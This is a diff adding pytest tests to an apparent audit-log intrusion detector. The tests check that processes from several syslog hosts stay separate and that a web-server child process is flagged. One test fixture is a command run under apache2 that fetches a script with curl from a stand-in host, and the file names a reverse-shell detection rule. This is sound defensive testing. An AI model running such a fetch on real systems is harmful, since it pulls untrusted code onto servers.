@@ -290,3 +290,56 @@ def test_records_without_node_belong_to_this_host(shipped: Ruleset) -> None:
     alerts = [d for d in docs if rule_ids(d)]
     assert [rule_ids(d) for d in alerts] == [[REVERSE_SHELL_SEQUENCE]]
     assert alerts[0]["host"]["id"] == socket.gethostname()
+
+
+class TestHostsInOneStream:
+    """Records of several hosts in one stream without node=: each host's syslog name keeps its
+    processes apart, so a parent on one host is never taken for the parent of a child on another."""
+
+    @staticmethod
+    def _via_syslog(host: str, recs: list[str]) -> list[bytes]:
+        return [f"Dec  4 04:00:00 {host} audisp-syslog: {r}".encode() for r in recs]
+
+    # not a web server's user: only its parent can make it a web-server child
+    CHILD = Exec(("curl", "http://x/a.sh"), "/usr/bin/curl", pid=4242, ppid=4000, uid=1000, user="deploy",
+                 time=1777800000.1, serial=1001)
+
+    def test_parent_on_another_host_is_not_the_parent(self, shipped: Ruleset) -> None:
+        """apache2 is pid 4000 on web-a; pid 4000's child on web-b is not a web-server child."""
+        lines = self._via_syslog("web-a", audit_exec(APACHE, node=False))
+        lines += self._via_syslog("web-b", audit_exec(self.CHILD, node=False))
+        docs, _ = run_lines(shipped, lines)
+        assert [rule_ids(d) for d in docs if rule_ids(d)] == []
+
+    def test_parent_on_the_same_host_is_found(self, shipped: Ruleset) -> None:
+        """The same records from one syslog host: the child is apache2's, and the alert names the host."""
+        lines = self._via_syslog("web-b", audit_exec(APACHE, node=False) + audit_exec(self.CHILD, node=False))
+        docs, _ = run_lines(shipped, lines)
+        alerts = [d for d in docs if rule_ids(d)]
+        assert [rule_ids(d) for d in alerts] == [[WEB_SERVER_CHILD]]
+        assert alerts[0]["host"]["id"] == "web-b" and alerts[0]["process"]["parent"]["name"] == "apache2"
+
+    @pytest.mark.parametrize("prefix", ["<14>Dec 14 04:00:00 {h} audispd[7]: ",
+                                        "2026-12-04T04:00:00.123456+00:00 {h} audisp-syslog: ",
+                                        "<165>1 2026-12-04T04:00:00Z {h} audispd 123 - - ",
+                                        "Dec  4 04:00:00 {h} "])
+    def test_syslog_headers_name_the_host(self, prefix: str) -> None:
+        """BSD, ISO-timestamped and RFC 5424 syslog headers give the record's host; node= wins over them."""
+        rec = "type=EOE msg=audit(1777800000.100:1001):"
+        assert parse_record(prefix.format(h="db-1.example.org") + rec).node == "db-1.example.org"
+        assert parse_record(prefix.format(h="db-1") + "node=n7 " + rec).node == "n7"
+
+    def test_same_serial_on_two_hosts_stays_two_events(self) -> None:
+        """Two hosts' records with the same time and serial are assembled as two events, with distinct entity ids."""
+        asm = AuditAssembler()
+        table = PidTable()
+        events = []
+        for host in ("web-a", "web-b"):
+            for line in self._via_syslog(host, audit_exec(self.CHILD, node=False)):
+                rec = parse_record(line.decode())
+                assert rec is not None
+                events += asm.add(rec, None, 0.0)
+        assert len(events) == 2
+        flats = [to_ecs(ev.records, table, {}, "local") for ev in events]
+        assert [f["host.id"] for f in flats] == ["web-a", "web-b"]
+        assert flats[0]["process.entity_id"] != flats[1]["process.entity_id"]
